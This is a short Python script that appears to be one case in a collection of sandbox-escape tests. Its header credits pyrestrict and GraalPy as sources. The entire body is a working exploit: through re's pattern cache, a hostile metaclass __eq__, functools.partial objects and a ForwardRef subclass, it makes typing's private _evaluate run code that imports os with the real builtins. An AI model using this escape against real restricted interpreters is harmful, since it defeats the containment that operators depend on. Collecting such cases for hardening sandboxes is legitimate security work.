# technique: a key in the cache of re is compared while a module is imported; partials, of which there are no frames, make the library read a private method of typing, which then evaluates text with the builtins that an import brings back
# source: reading pyrestrict and GraalPy's library
# goal: text evaluated by the real eval, with the real builtins: the module os
# impact: exec
# runs: 2
import dataclasses
import functools
import re
import typing

PATTERN = r'[^\w@%+=:,./-]'
found = []
reached = []
ForwardRef = type(typing.get_args(typing.List['x'])[0])


@dataclasses.dataclass(init=False, repr=False, eq=False)
class Reference(ForwardRef, _root=True):
    _evaluate: object

    def __deepcopy__(self, memo):
        return self

    def __getattr__(self, name):
        return {'__forward_code__': "reached.append(__import__('os'))", '__forward_arg__': '', '__forward_module__': None}.get(name, False)


reference = Reference.__new__(Reference)


class Shown:
    __str__ = functools.partial(dataclasses.asdict, reference, dict_factory=functools.partial(list.extend, found))


class Meta(type):
    def __hash__(cls):
        return hash(str)

    def __eq__(cls, other):
        if found:
            try:
                found[0][1]({'reached': reached}, {}, (), recursive_guard=frozenset())
            except Exception:
                pass
        return True


class Text(str, metaclass=Meta):
    __hash__ = str.__hash__
    __eq__ = functools.partial(print, Shown())


try:
    re.compile(Text(PATTERN), re.ASCII)
except TypeError:
    pass
for i in range(2):
    try:
        import shlex
    except Exception:
        pass
if found or reached:
    escaped(found, reached)
